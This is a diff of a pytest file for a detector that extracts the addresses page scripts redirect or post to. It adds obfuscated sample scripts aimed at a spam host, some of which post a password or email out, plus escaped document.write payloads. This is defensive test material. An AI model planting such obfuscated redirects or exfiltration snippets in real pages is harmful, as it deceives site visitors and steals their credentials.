@@ -24,6 +24,13 @@ SCRIPTS = {
     "what is fetched": "fetch('http://pills.com/x', { headers: {}, method: 'POST', body: JSON.stringify(d) })",
     "escaped slashes": r"location.href = 'http:\/\/pills.com\/x'",
     "base64": "location.href = atob('aHR0cDovL3BpbGxzLmNvbS94')",
+    "a name": "var url = 'http://pills.com/x'; setTimeout(() => { window.location.href = url; }, 900)",
+    "a name, and what it is told": 'const next="http://pills.com/x"\nlocation.replace(next + "#" + mail)',
+    "a name that is posted to": "let api = 'http://pills.com/x'; $.post(api, {p: pw})",
+    "members in brackets": "window['location']['href'] = 'http://pills.com/x'",
+    "a call in brackets": 'top["location"]["replace"]("http://pills.com/x")',
+    "letters by their codes": r"location = '\x68\x74tp:\u002f\u002fpills.com/x'",
+    "members by their codes": r"window['\x6c\x6fcation']['\x68ref'] = 'http://pills.com/x'",
     "percents": "location.href = decodeURIComponent('http%3A%2F%2Fpills.com%2Fx')",
 }
 
@@ -47,6 +54,20 @@ def test_an_address_that_is_only_asked_is_left_aside(script: str) -> None:
     assert list(opened(script)) == []
 
 
+@pytest.mark.parametrize(
+    "script",
+    [
+        "var url = 'https://api.geo.com/json'; if (x) { url = next(); } location.href = url;",
+        "var e = 'https://api.geo.com/json'; location.href = e;",
+        "var url = 'https://api.geo.com/json' + key; fetch(url); location.href = url_of(x);",
+        "api.url = 'https://api.geo.com/json'; location.href = url;",
+        "location.href = url",
+    ],
+)
+def test_a_name_that_may_mean_something_else_leads_nowhere(script: str) -> None:
+    assert list(opened(script)) == []
+
+
 def test_an_address_that_is_only_loaded_from_is_left_aside() -> None:
     assert list(opened("import 'https://cdn.other.com/jquery.js'; var doc = 'http://www.w3.org/1999/xhtml'")) == []
 
@@ -61,6 +82,8 @@ def test_an_address_that_is_only_loaded_from_is_left_aside() -> None:
         'document.writeln( "<p>x</p>" );',
         "document.body.innerHTML = `<p>x`",
         "d.insertAdjacentHTML('beforeend', '<p>x')",
+        r"document.write('\x3cp\x3ex')",
+        r"document['write']('\u003Cp>x')",
     ],
 )
 def test_a_page_that_is_written_is_read(script: str) -> None:
@@ -72,9 +95,24 @@ def test_what_is_escaped_in_a_page_that_is_written_is_read_as_it_is_shown() -> N
     assert list(written(r"""document.write("<a\n href=\"http:\/\/pills.com\/x\">x")""")) == [
         '<a\n href="http://pills.com/x">x'
     ]
+    assert list(written(r"document.write('<a href=\x27http://pills.com/x\x27>x')")) == [
+        "<a href='http://pills.com/x'>x"
+    ]
 
 
-@pytest.mark.parametrize("piece", ["write('<", "innerHTML=`<\\", "atob('", "'" + 50 * "A", "insertAdjacentHTML('x',"])
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "write('<",
+        "innerHTML=`<\\",
+        "atob('",
+        "'" + 50 * "A",
+        "insertAdjacentHTML('x',",
+        "abc=",
+        "location=abc;",
+        "\\x41",
+    ],
+)
 def test_a_script_made_to_be_slow_is_read_at_once(piece: str) -> None:
     began = time.process_time()
     for _ in range(5):
@@ -100,6 +138,9 @@ def test_a_script_made_to_be_slow_is_read_at_once(piece: str) -> None:
                 ".ajax({",
                 "fetch(",
                 "url:",
+                "url;",
+                "\\ud83d",
+                "\\x27",
             ]
         )
     )
